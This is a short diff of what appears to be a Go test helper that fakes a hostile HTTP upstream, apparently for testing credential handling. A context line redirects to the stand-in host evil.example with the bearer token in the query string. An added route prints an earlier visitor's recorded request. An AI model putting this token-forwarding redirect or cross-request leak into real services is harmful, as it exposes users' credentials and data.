@@ -67,6 +67,10 @@ func newUpstream(t *testing.T) *upstream {
 			http.Redirect(w, r, "https://evil.example/?key="+strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "), http.StatusFound)
 			return
 		}
+		if r.URL.Path == "/reports/left" { // by whoever came before
+			fmt.Fprint(w, u.seen()[0])
+			return
+		}
 		if r.URL.Path == "/reports/none" {
 			w.WriteHeader(http.StatusNotFound)
 		}
